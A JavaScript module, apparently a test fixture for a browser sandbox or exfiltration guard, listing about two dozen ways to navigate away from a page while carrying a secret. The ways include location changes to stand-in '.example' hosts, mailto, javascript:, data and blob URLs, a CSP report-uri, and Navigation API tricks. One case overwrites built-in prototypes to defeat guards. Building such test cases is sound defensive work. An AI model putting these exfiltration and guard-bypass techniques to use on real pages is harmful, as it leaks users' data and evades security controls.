/** Of leaving the page. @param {ReturnType<typeof import("./tools.mjs").toolsOf>} tools */
export function waysOfNavigation({ to, put, secret }) {
  return {
    "location.href": () => {
      location.href = to("href");
    },
    "location.assign": () => {
      location.assign(to("assign"));
    },
    "location.replace": () => {
      location.replace(to("replace"));
    },
    "location.search": () => {
      location.search = secret;
    },
    "location.pathname": () => {
      location.pathname = `/${secret}`;
    },
    "location.host": () => {
      location.host = `${secret}.example`;
    },
    "location, a frame's name": () => {
      window.top.location = to("top");
    },
    "location, mail": () => {
      location.href = `mailto:way@${secret}.example?body=${secret}`;
    },
    "location, another program": () => {
      location.href = `way:${secret}`;
    },
    "location, script": () => {
      location.href = `javascript:fetch("${to("script")}")`;
    },
    "location, data": () => {
      location.href = `data:text/html,<img src="${to("data")}">`;
    },
    "location, blob": () => {
      location.href = URL.createObjectURL(
        new Blob([`<img src="${to("blob")}"><script>new RTCPeerConnection()</script>`], { type: "text/html" }),
      );
    },
    "meta refresh": put("meta", { "http-equiv": "refresh", content: `0;url=${to("refresh")}` }, "head"),
    "meta report": put(
      "meta",
      { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${to("report")}` },
      "head",
    ),
    "history.pushState, then reload": () => {
      history.pushState(null, "", `?${secret}`);
      location.reload();
      return true;
    },
    "history.replaceState": () => {
      history.replaceState(null, "", `?${secret}`);
      return true;
    },
    "history.back": () => {
      history.back();
      return true;
    },
    "the hash, then reload": () => {
      location.hash = secret;
      location.reload();
    },
    "Navigation API": () => {
      navigation.navigate(to("navigation"));
    },
    "Navigation API, intercepted": () => {
      navigation.addEventListener("navigate", (event) => event.intercept({ handler: () => {} }), { once: true });
      location.search = secret;
    },
    "Navigation API, its listeners stopped": () => {
      navigation.addEventListener("navigate", (event) => event.stopImmediatePropagation(), {
        capture: true,
        once: true,
      });
      location.href = to("stopped");
    },
    "Navigation API, with what scripts put in place of the language's own": () => {
      Event.prototype.preventDefault = () => {};
      String.prototype.startsWith = () => true;
      Function.prototype.apply = Function.prototype.call = Reflect.apply = () => true;
      location.href = to("replaced");
    },
  };
}
